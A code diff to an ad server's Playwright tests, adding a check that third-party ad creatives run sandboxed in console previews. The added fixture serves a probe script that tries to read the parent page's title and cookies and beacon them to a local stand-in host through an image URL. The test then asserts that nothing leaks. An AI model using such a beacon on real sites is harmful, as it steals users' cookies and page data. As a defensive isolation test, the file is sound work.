@@ -6,8 +6,11 @@ import re
 import shutil
 import time
 from collections.abc import Iterator
+from contextlib import suppress
 from datetime import datetime
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
+from threading import Thread
 from typing import Literal
 from zoneinfo import ZoneInfo
 
@@ -18,6 +21,7 @@ from axe_playwright_python.sync_playwright import Axe  # type: ignore[import-unt
 from msgspec import structs
 from PIL import Image
 from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, Page, Request, expect, sync_playwright
+from playwright.sync_api import Error as PlaywrightError
 
 from adserver.console import desk as desks
 from adserver.console import drafts, sessions
@@ -26,7 +30,7 @@ from adserver.console.links import address, make_link
 from adserver.console.report_links import PATH as REPORTS
 from adserver.console.report_links import make_report_link
 from adserver.console.web import COOKIE
-from adserver.model import SlotId
+from adserver.model import Kind, SlotId
 from adserver.store import Store
 from tests.console.desks import PASSWORD, TEST, Desk
 from tests.console.provider import CLIENT, SECRET, running_provider
@@ -60,6 +64,7 @@ class Watched:
         self.desk = desk
         self.page = context.new_page()
         self.wrong: list[str] = []
+        self.allowed: tuple[str, ...] = ()
         self.page.on("console", self._hear)
         self.page.on("pageerror", lambda error: self.wrong.append(str(error)))
         context.on("request", self._look)
@@ -72,7 +77,7 @@ class Watched:
             self.wrong.append(message.text)
 
     def _look(self, request: Request) -> None:
-        if not request.url.startswith((self.desk.service.url, "blob:", "data:", "about:")):
+        if not request.url.startswith((self.desk.service.url, "blob:", "data:", "about:", *self.allowed)):
             self.wrong.append(f"asks {request.url}")
 
     def goto(self, path: str) -> Page:
@@ -232,6 +237,109 @@ def test_next_tuesday_at_nine(context: BrowserContext, watched: Watched) -> None
     assert 'data-line-item="next-tuesday-only"' not in snippet(desk, 889990)
 
 
+class Elsewhere:
+    """Another origin, as that of a third party: a script that draws a picture and tells what it could reach."""
+
+    SCRIPT = """
+        let reached = "nothing";
+        try { reached = parent.document.title || "a page"; } catch {}
+        try { reached = document.cookie || reached; } catch {}
+        const drawn = new Image();
+        drawn.src = `%s/tag.png?reached=${encodeURIComponent(reached)}`;
+        drawn.alt = "by the tag";
+        document.body.append(drawn);
+    """
+
+    def __init__(self) -> None:
+        self.asked: list[str] = []
+        here = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                here.asked.append(self.path)
+                script = self.path == "/tag.js"
+                self.send_response(200)
+                self.send_header("content-type", "text/javascript" if script else "image/png")
+                self.end_headers()
+                self.wfile.write((here.SCRIPT % here.url).encode() if script else picture("teal"))
+
+            def log_message(self, *_: object) -> None:
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_port}"
+
+
+@pytest.fixture
+def elsewhere() -> Iterator[Elsewhere]:
+    found = Elsewhere()
+    thread = Thread(target=found.server.serve_forever)
+    thread.start()
+    yield found
+    found.server.shutdown()
+    thread.join()
+    found.server.server_close()
+
+
+def draft_creative(desk: Desk, person: str, name: str, kind: Kind, html: str) -> None:
+    """Put a third party's creative into the draft of *person*, with a booking of all of the first box."""
+
+    async def body(store: Store) -> None:
+        live = await desks.read_live(store)
+        like = next(one for one in live.document.creatives if one.id == "molenkorst-card")
+        creative = structs.replace(like, id=name, kind=kind, html=html, click_url=None)
+        sponsors = [one for one in live.document.line_items if 889990 in one.slots and one.share is not None]
+        line_item = structs.replace(sponsors[0], id=f"{name}-booked", name=name, campaign="molenkorst-bread",
+                                    creatives=(name,), slots=(SlotId(889990),), share=100.0, starts=None, ends=None,
+                                    targeting=None, hours=(), goal=None)  # fmt: skip
+        draft = drafts.put(Draft(live.number), live.document, "creatives", creative)
+        draft = drafts.put(draft, live.document, "line_items", line_item)
+        draft = drafts.remove(draft, live.document, "line_items", *(one.id for one in sponsors))
+        await desks.write_draft(store, person, draft, "")
+
+    desk.ask(body)
+
+
+@pytest.mark.parametrize("kind", [Kind.TAG, Kind.HTML])
+def test_what_third_parties_show_is_seen_in_previews(
+    context: BrowserContext, watched: Watched, elsewhere: Elsewhere, kind: Kind
+) -> None:
+    """
+    A tag's script and an HTML creative's picture come from elsewhere, in the creative's own previews and on the sample
+    article, as on a reader's page; what runs there reaches nothing of the console, and no policy is broken.
+    """
+    desk, page = watched.desk, watched.page
+    watched.allowed = (elsewhere.url,)
+    name = f"elsewhere-{kind.value}-{time.time_ns()}"
+    person = f"previews-{time.time_ns()}"
+    sign_in(context, desk, person, "sales")
+    draft_creative(desk, person, name, kind, {
+        Kind.TAG: f'<div id="spot"></div><script src="{elsewhere.url}/tag.js"></script>',
+        Kind.HTML: f'<p><img src="{elsewhere.url}/html.png" alt="bought" width="300" height="250"></p>',
+    }[kind])  # fmt: skip
+    watched.goto(f"/console/creatives/{name}")
+    page.locator("iframe").first.scroll_into_view_if_needed()
+    in_frames(page, elsewhere.url)
+    watched.goto("/console/preview")
+    in_frames(page, elsewhere.url)
+    assert {one.partition("?")[0] for one in elsewhere.asked} >= {"/tag.js" if kind is Kind.TAG else "/html.png"}
+    assert {one.partition("=")[2] for one in elsewhere.asked} <= {"", "nothing"}
+    for frame in page.frames[1:]:
+        assert frame.evaluate("origin") == "null"
+
+
+def in_frames(page: Page, url: str) -> None:
+    """Wait until some frame of *page* has drawn a picture of that origin."""
+    end = time.monotonic() + 15
+    drawn = "url => [...document.images].some(one => one.src.startsWith(url) && one.complete && one.naturalWidth > 0)"
+    while time.monotonic() < end:
+        with suppress(PlaywrightError):  # a frame that goes on loading
+            if any(frame.evaluate(drawn, url) for frame in page.frames[1:]):
+                return
+        page.wait_for_timeout(100)
+    raise AssertionError(f"no frame shows a picture of {url}")
+
+
 def _cookie(context: BrowserContext) -> str:
     return "; ".join(f"{one['name']}={one['value']}" for one in context.cookies())
 
@@ -350,7 +458,8 @@ def test_a_viewer_may_look_and_not_publish(context: BrowserContext, watched: Wat
 
 PAGES = [
     "/console", "/console/line-items", "/console/book", "/console/line-items/molenkorst-daily", "/console/creatives",
-    "/console/creatives/new", "/console/creatives/molenkorst-mill-300x250", "/console/draft", "/console/preview",
+    "/console/creatives/new", "/console/creatives/molenkorst-mill-300x250",
+    "/console/creatives/molenkorst-card", "/console/creatives/somebodys-tag", "/console/draft", "/console/preview",
     "/console/history", "/console/history/1", "/console/pauses", "/console/sheet", "/console/me", "/console/people",
     "/console/audit", "/console/more", "/console/login", "/console/calendar", "/console/slots", "/console/slots/889990",
     "/console/slots/new", "/console/reports", "/console/reports?by=advertiser&id=molenkorst", "/console/advertisers",
@@ -359,6 +468,14 @@ PAGES = [
 LOOKS: list[tuple[Literal["light", "dark"], str]] = [(scheme, size) for size in SIZES for scheme in ("light", "dark")]
 
 
+@pytest.fixture(scope="module")
+def somebodys_tag(desk: Desk) -> None:
+    """A third party's tag among the creatives, which asks nobody for anything."""
+    desk.add("axe", "admin")
+    draft_creative(desk, "axe", "somebodys-tag", Kind.TAG, "<p>A tag</p><script>document.title = 'it ran'</script>")
+
+
+@pytest.mark.usefixtures("somebodys_tag")
 @pytest.mark.parametrize("path", PAGES)
 def test_every_page_is_for_everybody(chromium: Browser, desk: Desk, path: str) -> None:
     """
